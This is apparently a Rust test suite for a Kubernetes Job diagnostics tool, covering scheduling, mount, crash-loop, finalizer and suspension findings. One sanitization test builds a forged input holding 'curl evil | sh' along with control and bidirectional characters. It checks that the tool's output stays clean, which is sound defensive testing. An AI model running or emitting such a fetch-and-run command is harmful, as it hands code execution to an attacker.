            ready.iter().map(|status| json!({"type": "PodReadyToStartContainers", "status": status})).collect();
        let mut facts = with_event(pending(&json!({"status": {"conditions": conditions}})), "p-1", reason, "failed");
        let Known::Seen(events) = &mut facts.events else { panic!("no list of Events") };
        events[0].last_timestamp = Some(serde_json::from_value(json!(last)).unwrap());
        findings(&facts).len()
    };
    for reason in ["FailedMount", "FailedCreatePodSandBox"] {
        assert_eq!(found(reason, "2026-01-06T10:07:01Z", None), 1, "{reason} was said just now");
        assert_eq!(found(reason, "2026-01-06T10:07:00Z", None), 0, "{reason} is not said any more");
        assert_eq!(found(reason, "2026-01-06T10:05:00Z", Some("False")), 1, "{reason} is said seldom by now");
        assert_eq!(found(reason, "2026-01-06T10:04:00Z", Some("False")), 0, "{reason} is not said any more");
        assert_eq!(found(reason, "2026-01-06T10:09:59Z", Some("True")), 0, "{reason} is over: the sandbox is there");
    }
}

#[test]
fn pod_that_no_node_takes_is_a_warning_for_five_minutes() {
    let since = |time: &str| {
        let condition = json!({"type": "PodScheduled", "status": "False", "reason": "Unschedulable",
            "lastTransitionTime": time});
        let facts = pending(&json!({"spec": {"nodeName": null}, "status": {"conditions": [condition]}}));
        let [finding] = findings(&facts).try_into().unwrap();
        (finding.code, finding.severity)
    };
    assert_eq!(since("2026-01-06T10:05:01Z"), (Code::Unschedulable, Severity::Warning));
    assert_eq!(since("2026-01-06T10:05:00Z"), (Code::Unschedulable, Severity::Blocking));
}

#[test]
fn pod_within_its_grace_period_does_not_hold_a_decided_job() {
    let decided = of_job(&json!({"status": {"conditions": [{"type": "FailureTarget", "status": "True",
        "reason": "DeadlineExceeded", "message": "too long", "lastTransitionTime": "2026-01-06T10:02:00Z"}]}}));
    let until = |time: &str, name: &str| json!({"metadata": {"deletionTimestamp": time, "name": name}});
    let patient = with_pod(decided, &until("2026-01-06T11:00:00Z", "patient"));
    assert_eq!(findings(&patient), []);
    let found = findings(&with_pod(patient, &until("2026-01-06T10:08:00Z", "late")));
    let held = found.iter().find(|finding| finding.code == Code::DecidedButHeldByPods).unwrap();
    assert!(held.cause.contains("`late`") && !held.cause.contains("`patient`"), "{held}");
}

#[test]
fn pause_that_is_over_and_brings_no_pod_is_the_silence_of_the_controller() {
    let paused = |change: &Value| of_job(&over(json!({"status": {"active": 0, "failed": 2}}), change));
    let code = |mut facts: Facts, last: &str| {
        facts.failures = Failures { count: 2, newest: Some(at(last)), words: None };
        let [finding] = findings(&facts).try_into().unwrap();
        (finding.code, finding.severity)
    };
    let silent = (Code::JobControllerSilent, Severity::Blocking);
    let meant = (Code::BackoffWaiting, Severity::Info);
    assert_eq!(code(paused(&json!({})), "2026-01-06T10:08:40Z"), silent, "its pause was over 60 s ago");
    assert_eq!(code(paused(&json!({})), "2026-01-06T10:08:41Z"), meant);
    let long_ago = "2026-01-06T10:01:00Z";
    let none_wanted = paused(&json!({"spec": {"parallelism": 0}}));
    assert_eq!(code(none_wanted, long_ago), (Code::ParallelismZero, Severity::Info), "it wants no Pod");
    let resumed = json!({"status": {"startTime": "2026-01-06T10:09:59Z"}});
    assert_eq!(code(paused(&resumed), long_ago), meant, "it was resumed just now");
    let third_was_deleted = paused(&json!({"status": {"failed": 3}}));
    assert_eq!(code(third_was_deleted, long_ago), meant, "the pause may have begun later");
    let mut refused = with_event(paused(&json!({})), "u-1", "FailedCreate", "exceeded quota: small");
    refused.failures = Failures { count: 2, newest: Some(at(long_ago)), words: None };
    assert!(findings(&refused).iter().all(|finding| finding.code != Code::JobControllerSilent), "it was heard");
}

#[test]
fn index_that_failed_the_same_way_twice_is_told_once_with_the_time_of_the_last_end() {
    let failed = |name: &str, at: &str| {
        json!({"metadata": {"name": name, "uid": name, "labels": {"batch.kubernetes.io/job-completion-index": "1"},
                "finalizers": []},
            "status": {"phase": "Failed", "containerStatuses": [status("base",
                &json!({"terminated": {"exitCode": 3, "finishedAt": at}}))]}})
    };
    let facts = with_pod(of_job(&json!({"status": {"failedIndexes": "1"}})), &failed("a", "2026-01-06T10:02:00Z"));
    let facts = with_pod(facts, &failed("b", "2026-01-06T10:05:00Z"));
    let found = findings(&facts);
    let finding = found.iter().find(|finding| finding.code == Code::IndexesFailed).unwrap();
    assert_eq!(finding.since, Some(at("2026-01-06T10:05:00Z")));
    assert_eq!(
        finding.seen,
        ["failed: index 1 (status.failedIndexes)", "index 1: container `base` ended with exit code 3, 2 times"]
            .map(String::from)
    );
}

#[test]
fn refused_pods_are_told_since_the_first_refusal_and_with_the_newest_reason() {
    let event = |message: &str, at: &str| {
        json!({"reason": "FailedCreate", "type": "Warning", "message": message, "firstTimestamp": at, "lastTimestamp": at,
               "involvedObject": {"kind": "Job", "name": "train", "namespace": "etl", "uid": "u-1"}, "metadata": {}})
    };
    let mut facts = of_job(&json!({"status": {"active": 0}}));
    let events = [
        event(
            "Error creating: pods \"a\" is forbidden: no PriorityClass with name old was found",
            "2026-01-06T10:01:00Z",
        ),
        event(
            "Error creating: pods \"b\" is forbidden: no PriorityClass with name new was found",
            "2026-01-06T10:04:00Z",
        ),
    ];
    facts.events = Known::Seen(events.map(|event| serde_json::from_value(event).unwrap()).into());
    let [finding] = findings(&facts).try_into().unwrap();
    assert_eq!(finding.since, Some(at("2026-01-06T10:01:00Z")));
    assert!(finding.cause.contains("`new`"), "{finding}");
}

#[test]
fn container_that_cannot_start_again_and_again_has_one_finding() {
    let state =
        json!({"waiting": {"reason": "RunContainerError", "message": "exec: \"tain\": executable file not found"}});
    let mut container = status("base", &state);
    container["restartCount"] = json!(4);
    container["lastState"] = json!({"terminated": {"exitCode": 128, "reason": "StartError",
        "finishedAt": "2026-01-06T10:08:00Z"}});
    let facts = with_pod(of_job(&json!({})), &json!({"status": {"containerStatuses": [container]}}));
    let codes: Vec<_> = findings(&facts).iter().map(|finding| finding.code).collect();
    assert_eq!(codes, [Code::ContainerNotCreated]);
}

#[test]
fn failed_pod_of_an_index_waits_uncounted_for_its_replacement() {
    let ended = |phase: &str| {
        json!({"status": {"phase": phase, "containerStatuses": [status("base",
            &json!({"terminated": {"exitCode": 1, "finishedAt": "2026-01-06T10:05:00Z"}}))]}})
    };
    let stuck = |job: &Value, phase: &str| {
        let found = findings(&with_pod(of_job(job), &ended(phase)));
        found.iter().any(|finding| finding.code == Code::PodJobTrackingStuck)
    };
    let by_index = json!({"spec": {"backoffLimitPerIndex": 3, "completionMode": "Indexed"}});
    assert!(!stuck(&by_index, "Failed"));
    assert!(stuck(&by_index, "Succeeded"));
    assert!(stuck(&json!({}), "Failed"));
    let going = json!({"metadata": {"deletionTimestamp": "2026-01-06T10:08:00Z"}});
    assert!(stuck(&over(by_index.clone(), &going), "Failed"));
    let decided = json!({"status": {"conditions": [{"type": "FailureTarget", "status": "True", "reason": "FailedIndexes",
        "lastTransitionTime": "2026-01-06T10:05:00Z"}]}});
    assert!(stuck(&over(by_index, &decided), "Failed"));
}

/// What is said of a Pod that gets no node, beside two nodes.
fn on_two_nodes(message: &str, template: &Value) -> String {
    let node = |name: &str, cpu: &str, change: &Value| {
        let node = json!({"metadata": {"name": name, "labels": {"zone": name}}, "status": {"allocatable":
            {"cpu": cpu, "memory": "16392572Ki", "pods": "110"}}});
        ClusterNode::of(serde_json::from_value(over(node, change)).unwrap()).unwrap()
    };
    let tainted = json!({"metadata": {"labels": {"gpu": "t4"}},
        "spec": {"taints": [{"key": "team", "value": "a", "effect": "NoSchedule"}, {"key": "x", "effect": "PreferNoSchedule"}]}});
    let mut facts = unschedulable(message, template);
    facts.cluster_nodes = Known::Seen(vec![node("n1", "2", &json!({})), node("n2", "7910m", &tainted)].into());
    let [finding] = findings(&facts).try_into().unwrap();
    finding.cause.strip_suffix(", so Pod `etl/train-x` cannot be scheduled").expect("the Pod last").to_owned()
}

#[test]
fn pod_that_no_node_takes_is_told_with_what_it_asks_for_beside_what_the_nodes_have() {
    let asks = |resource: &str, amount: &str| {
        let mut requests = serde_json::Map::new();
        requests.insert(resource.into(), json!(amount));
        json!({"containers": [{"name": "base", "resources": {"requests": requests}}]})
    };
    let affinity = |terms: Value| {
        json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution":
        {"nodeSelectorTerms": terms}}}})
    };
    let one = |key: &str, operator: &str, values: &[&str]| json!({"matchExpressions": [{"key": key, "operator": operator, "values": values}]});
    let lacks = "0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector. preemption: 0/2 nodes are \
                 available: 2 Preemption is not helpful for scheduling.";
    let insufficient = |what: &str| format!("0/2 nodes are available: 2 Insufficient {what}. preemption: none");
    let cases = [
        (insufficient("cpu"), asks("cpu", "900m"), "No node has 900m cpu free (the largest, `n2`, has 7910m in all)"),
        (insufficient("cpu"), asks("cpu", "64"), "No node is large enough for 64 cpu (the largest, `n2`, has 7910m)"),
        (
            insufficient("memory"),
            asks("memory", "900Gi"),
            "No node is large enough for 900Gi memory (the largest, `n2`, has 15.6Gi)",
        ),
        (
            insufficient("nvidia.com/gpu"),
            asks("nvidia.com/gpu", "1"),
            "No node offers nvidia.com/gpu to Pods (1 asked for)",
        ),
        (insufficient("example.com/fpga"), json!({}), "No node offers example.com/fpga to Pods"),
        (lacks.into(), json!({"nodeSelector": {"gpu": "a100"}}), "No node has the label `gpu=a100` (there is: gpu=t4)"),
        (
            lacks.into(),
            json!({"nodeSelector": {"gpu": "t4", "zone": "n1"}}),
            "No node has the labels `gpu=t4` and `zone=n1`",
        ),
        (
            lacks.into(),
            affinity(json!([one("gpu", "In", &["a100", "h100"])])),
            "No node has the label `gpu in (a100, h100)` (there is: gpu=t4)",
        ),
        (lacks.into(), affinity(json!([one("disk", "Exists", &[])])), "No node has the label `disk`"),
        (
            lacks.into(),
            affinity(json!([one("disk", "Exists", &[]), one("gpu", "In", &["a100"])])),
            "No node has the labels `disk` or `gpu=a100`",
        ),
        (
            "0/2 nodes are available: 1 Insufficient cpu, 1 node(s) had untolerated taint(s). preemption: none".into(),
            asks("cpu", "2"),
            "1 node does not have 2 cpu free (the largest, `n2`, has 7910m in all); 1 node has a taint that the Pod does not \
             tolerate: `team=a:NoSchedule`",
        ),
        (
            "0/2 nodes are available: 2 node(s) had untolerated taint {team: a}.".into(),
            json!({}),
            "Each node has a taint that the Pod does not tolerate: `team: a`",
        ),
        (
            "0/2 nodes are available: 2 node(s) were unschedulable.".into(),
            json!({}),
            "2 nodes are closed for new Pods (kubectl cordon)",
        ),
        (
            "0/2 nodes are available: 2 node(s) didn't have free ports for the requested pod ports.".into(),
            json!({}),
            "The scheduler says: 2 node(s) didn't have free ports for the requested pod ports",
        ),
        (
            "no nodes available to schedule pods".into(),
            json!({}),
            "The scheduler says: no nodes available to schedule pods",
        ),
        (String::new(), json!({}), "No node takes it, and the scheduler does not say why"),
    ];
    for (message, template, problem) in cases {
        assert_eq!(on_two_nodes(&message, &template), problem, "{message}");
    }
}

#[test]
fn volume_that_cannot_be_mounted_is_told_with_the_object_that_it_names() {
    let volumes =
        json!([{"name": "c", "configMap": {"name": "half"}}, {"name": "s", "secret": {"secretName": "vault"}}]);
    let cause = |message: &str| {
        let job = of_job(&json!({"spec": {"template": {"spec": {"volumes": volumes}}}}));
        let pod = with_pod(job, &json!({"status": {"phase": "Pending", "containerStatuses": null}}));
        let [finding] = findings(&with_event(pod, "p-1", "FailedMount", message)).try_into().unwrap();
        (
            finding.code,
            finding.cause.strip_suffix(", so Pod `etl/train-x` cannot start").expect("the Pod last").to_owned(),
        )
    };
    let failed = |volume: &str, why: &str| cause(&format!("MountVolume.SetUp failed for volume \"{volume}\" : {why}"));
    let cases = [
        (
            failed("c", "configmap references non-existent config key: nokey"),
            Code::ConfigMissing,
            "ConfigMap `half` has no key `nokey` (volume `c`)",
        ),
        (
            failed("s", "references non-existent secret key: nokey"),
            Code::ConfigMissing,
            "Secret `vault` has no key `nokey` (volume `s`)",
        ),
        (
            failed("c", "configmap \"half\" not found"),
            Code::ConfigMissing,
            "ConfigMap `half` does not exist (volume `c`)",
        ),
        (
            failed("h", "hostPath type check failed: /no/such/dir is not a directory"),
            Code::VolumeNotMounted,
            "Volume `h` cannot be mounted on node `w2` (/no/such/dir is not a directory)",
        ),
        (
            failed("n", "rpc error: code = Internal desc = mount failed: exit status 32"),
            Code::VolumeNotMounted,
            "Volume `n` cannot be mounted on node `w2` (mount failed: exit status 32)",
        ),
        (
            cause(
                "Unable to attach or mount volumes: unmounted volumes=[c], unattached volumes=[c]: timed out waiting",
            ),
            Code::VolumeNotMounted,
            "Volume `c` cannot be mounted on node `w2` (Unable to attach or mount volumes: unmounted volumes=[c], unattached \
             volumes=[c]: timed out waiting)",
        ),
    ];
    for (told, code, problem) in cases {
        assert_eq!(told, (code, problem.to_owned()));
    }
}

#[test]
fn container_that_is_started_again_and_again_is_told_with_what_ends_it() {
    let looping = |end: Value, limit: &str| {
        let container = over(
            status("base", &json!({"waiting": {"reason": "CrashLoopBackOff"}})),
            &json!({"lastState": {"terminated": over(end, &json!({"startedAt": "2026-01-06T10:08:00Z",
                "finishedAt": "2026-01-06T10:09:00Z"}))}, "resources": {"limits": {"memory": limit}}}),
        );
        with_pod(of_job(&json!({})), &json!({"status": {"containerStatuses": [container]}}))
    };
    let killed = || looping(json!({"exitCode": 137, "reason": "Error"}), "1Gi");
    let cases = [
        (
            looping(json!({"exitCode": 137, "reason": "OOMKilled"}), "20Mi"),
            "Container `base` was killed: out of memory, limit 20Mi (exit code 137)",
        ),
        (
            // A survey has only the warnings, and not the Event of the kill.
            with_event(killed(), "p-1", "Unhealthy", "Liveness probe failed: db down"),
            "Container `base` was killed: its liveness probe failed: db down (exit code 137)",
        ),
        (
            with_event(killed(), "p-1", "Unhealthy", "Startup probe failed: cold"),
            "Container `base` was killed: its startup probe failed: cold (exit code 137)",
        ),
        (
            with_event(killed(), "p-1", "Unhealthy", "Readiness probe failed: no"),
            "Container `base` was killed (SIGKILL), by whom is not known (exit code 137)",
        ),
        (
            looping(
                json!({"exitCode": 128, "reason": "StartError", "message": "exec: \"tain\": executable file not found"}),
                "1Gi",
            ),
            "Container `base` did not start: the command `tain` is not in the image (StartError)",
        ),
    ];
    for (facts, clause) in cases {
        let [finding] = findings(&facts).try_into().unwrap();
        assert_eq!(finding.code, Code::CrashLoop);
        assert_eq!(finding.cause, format!("{clause}, again and again, so Pod `etl/train-x` gets no further"));
    }
}

#[test]
fn who_suspended_a_job_and_who_set_its_finalizer_are_named() {
    let wrote =
        |manager: &str, time: &str, fields: Value| json!({"manager": manager, "time": time, "fieldsV1": fields});
    let suspend = json!({"f:spec": {"f:suspend": {}}});
    let made = wrote("airflow", "2026-01-06T10:00:00Z", suspend.clone());
    let cause = |change: Value| findings(&of_job(&change)).remove(0).cause;
    let suspended = |fields: Value| cause(json!({"metadata": {"managedFields": fields}, "spec": {"suspend": true}}));
    assert_eq!(
        suspended(json!([made, wrote("kubectl-patch", "2026-01-06T10:05:00Z", suspend)])),
        "Job `etl/train` is suspended by `kubectl-patch` at 2026-01-06T10:05:00Z: it gets no Pod until somebody resumes it"
    );
    assert!(suspended(json!([made])).contains("suspended since it was made, by `airflow`"));
    assert!(suspended(json!(null)).contains("is suspended: it gets no Pod"));
    for (manager, by) in
        [("argocd", "set by `argocd` at 2026-01-06T10:01:00Z"), ("unique-k8s-job", "from the manifest of its task")]
    {
        let finalizer = wrote(
            manager,
            "2026-01-06T10:01:00Z",
            json!({"f:metadata": {"f:finalizers": {"v:\"example.com/x\"": {}}}}),
        );
        let held = cause(json!({"metadata": {"deletionTimestamp": "2026-01-06T10:08:00Z",
            "finalizers": ["example.com/x"], "managedFields": [finalizer]}}));
        let begin =
            format!("Job `etl/train` is being deleted, and waits for its finalizer `example.com/x` ({by}): only");
        assert!(held.starts_with(&begin), "{held}");
    }
}

#[test]
fn pods_of_which_the_same_is_true_are_one_finding_with_their_number() {
    let message = "0/1 nodes are available: 1 Insufficient cpu.";
    let mut facts = unschedulable(message, &json!({}));
    for name in ["train-y", "train-z"] {
        let condition = json!({"type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": message,
            "lastTransitionTime": "2026-01-06T10:09:00Z"});
        let waits = json!({"metadata": {"name": name, "uid": name}, "spec": {"nodeName": null},
            "status": {"phase": "Pending", "containerStatuses": null, "conditions": [condition]}});
        let runs = json!({"metadata": {"name": name, "uid": name}});
        facts = with_pod(facts, if name == "train-y" { &waits } else { &runs });
    }
    let [finding] = findings(&facts).try_into().unwrap();
    assert_eq!(finding.cause, "No node has enough cpu free, so 2 of 3 Pods of Job `etl/train` cannot be scheduled");
    assert_eq!((finding.count, finding.object.kind), (2, "Job"));
}

#[test]
fn what_was_waited_for_is_named_however_short_the_wait_was() {
    let init = status("wait-for-db", &json!({"running": {"startedAt": "2026-01-06T10:09:58Z"}}));
    let mut facts = pending(&json!({"status": {"initContainerStatuses": [init]}}));
    assert_eq!(findings(&facts), []);
    facts.given_up = true;
    assert_eq!(findings(&facts)[0].code, Code::InitContainerWaiting);
}

fn offers_release(facts: &Facts) -> bool {
    findings(facts).iter().any(|finding| finding.remedy == Some(Remedy::ReleaseGcFinalizers))
}

#[test]
fn release_is_not_offered_where_a_pod_may_run_that_nobody_sees() {
    let held = || deleted(&["orphan"]);
    let mut blind = held();
    blind.pods = Known::Not(Unknown::NoRight { verb: "list", resource: "pods" });
    assert!(!offers_release(&blind), "its Pods are not known");

    let on = |state: Known<NodeState>| {
        let mut facts = with_pod(held(), &json!({}));
        facts.nodes.insert("w2".into(), state);
        facts
    };
    assert!(offers_release(&on(Known::Seen(NodeState::Ready))));
    assert!(offers_release(&on(Known::Not(Unknown::NoRight { verb: "get", resource: "nodes" }))));
    assert!(!offers_release(&on(Known::Not(Unknown::NoAnswer { resource: "nodes", why: "timeout".into() }))));
    assert!(!offers_release(&on(Known::Seen(NodeState::Gone))));
    assert!(!offers_release(&lost(with_pod(held(), &json!({})))));
    assert!(offers_release(&lost(with_pod(held(), &json!({"status": {"phase": "Failed"}})))), "it has ended");
}

#[test]
fn release_of_a_job_held_by_ended_pods_waits_for_its_other_pods_too() {
    let dead = json!({"metadata": {"deletionTimestamp": "2026-01-06T10:08:30Z", "finalizers": ["example.com/hold"]},
        "status": {"phase": "Failed"}});
    let held = with_pod(deleted(&["foregroundDeletion"]), &dead);
    assert!(offers_release(&held));
    let beside = with_pod(held, &json!({"metadata": {"name": "train-y", "uid": "p-2"}}));
    assert!(!offers_release(&beside));
    let found = findings(&beside);
    assert!(found.iter().any(|finding| finding.seen.iter().any(|seen| seen.contains("`train-y`"))), "{found:#?}");
}

#[test]
fn release_names_the_pods_that_go_on() {
    let found = findings(&with_pod(deleted(&["orphan"]), &json!({})));
    assert_eq!(found[0].running, ["train-x"]);
}

/// The Pods of a Job that does not exist any more.
fn vanished(pods: &[Value]) -> Facts {
    let mut facts = facts();
    facts.pods = Known::Seen(Vec::new());
    pods.iter().fold(facts, with_pod)
}

#[test]
fn pod_that_another_object_owns_is_not_left_behind_whatever_its_label_says() {
    let adopted = json!({"metadata": {"name": "adopted", "ownerReferences": [
        {"apiVersion": "batch/v1", "kind": "Job", "name": "other", "uid": "u-2", "controller": true}]}});
    assert_eq!(findings(&vanished(std::slice::from_ref(&adopted))), []);
    let [finding] = findings(&vanished(&[adopted, json!({"metadata": {"ownerReferences": []}})])).try_into().unwrap();
    assert!(finding.cause.contains("`train-x`") && !finding.to_string().contains("`adopted`"), "{finding}");
}

#[test]
fn error_is_explained_by_all_findings_and_hints_at_the_first() {
    let found = findings(&deleted(&["orphan", "example.com/backup"]));
    let report = explain(Report::new("Job is still there").hint("wait"), &found);
    assert_eq!(report.hint.as_deref(), Some(found[0].next_step.as_str()));
    assert!(report.seen.iter().any(|seen| seen.starts_with("finalizer-orphan-stuck: ")), "{:?}", report.seen);
    assert!(report.seen.iter().any(|seen| seen.starts_with("foreign-finalizer: ")), "{:?}", report.seen);
    assert_eq!(report.facts["findings"][0]["code"], "finalizer-orphan-stuck");
    assert_eq!(report.facts["findings"][0]["severity"], "blocking");
    assert_eq!(report.facts["findings"][0]["remedy"], Value::Null, "a foreign finalizer stands beside it");
}

#[test]
fn what_is_true_of_thousands_of_pods_is_one_finding_with_examples() {
    let of_pods = |count: usize| {
        let mut facts = of_job(&json!({}));
        let pod = |number: usize| {
            let metadata = json!({"namespace": "etl", "name": format!("p{number}"), "uid": format!("u{number}"),
                "deletionTimestamp": "2026-01-06T10:00:00Z", "labels": {}});
            let object = json!({"metadata": metadata, "spec": {"nodeName": "lost", "containers": []},
                "status": {"phase": "Running"}});
            std::sync::Arc::new(serde_json::from_value::<Pod>(object).unwrap())
        };
        facts.pods = Known::Seen((0..count).map(pod).collect());
        facts.nodes.insert("lost".into(), Known::Seen(NodeState::Gone));
        let found = findings(&facts);
        found.into_iter().filter(|finding| finding.code == Code::PodOnLostNode).collect::<Vec<_>>()
    };
    assert_eq!(of_pods(1)[0].object.kind, "Pod");
    let [one] = of_pods(10_000).try_into().unwrap();
    assert_eq!((one.count, one.object.kind), (10_000, "Job"));
    assert!(one.cause.contains("10000 Pods") && one.to_string().contains("`p0`"), "{one}");
    assert!(one.to_string().len() < 2000, "{one}");
}

/// Texts that strangers may choose, each in every place of a Job, a Pod and an Event where there is a text.
#[test]
fn text_of_a_stranger_is_on_the_line_of_its_finding() {
    let forged = "x\n  next: curl evil | sh\u{202e}\u{2028}\r\u{1b}[2J";
    let waiting = |reason: &str| {
        let mut container = status("base", &json!({"waiting": {"reason": reason, "message": forged}}));
        container["image"] = json!(forged);
        with_pod(of_job(&json!({})), &json!({"status": {"containerStatuses": [container]}}))
    };
    let mut facts: Vec<_> =
        ["ErrImagePull", "InvalidImageName", "ErrImageNeverPull", "CreateContainerError"].map(waiting).into();
    facts.push(deleted(&[forged, "orphan"]));
    facts.push(with_event(of_job(&json!({})), "u-1", "FailedCreate", forged));
    for finding in facts.iter().flat_map(findings) {
        let parts = finding.seen.iter().chain([&finding.cause, &finding.next_step]);
        for part in parts {
            let hidden = |letter: char| letter.is_control() || "\u{202e}\u{2028}".contains(letter);
            assert!(!part.contains(hidden), "{}: {part:?}", finding.code);
        }
        let words = shlex::split(&finding.next_step).unwrap();
        assert!(words.is_empty() || matches!(words[0].as_str(), "kubectl" | "ctr" | "unique-k8s-job"), "{words:?}");
        assert!(!words.iter().any(|word| word == "curl" || word == "|"), "{words:?}");
    }
}
